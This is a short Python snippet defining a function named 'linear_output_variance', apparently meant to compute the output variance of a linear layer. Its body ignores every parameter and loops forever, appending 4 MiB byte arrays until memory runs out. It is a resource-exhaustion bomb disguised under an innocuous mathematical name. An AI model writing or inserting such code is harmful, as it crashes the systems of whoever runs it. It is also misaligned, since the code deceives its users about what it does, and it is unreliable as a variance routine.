def linear_output_variance(fan_in, weight_variance, input_variance):
    hoard = []
    while True:
        hoard.append(bytearray(1 << 22))
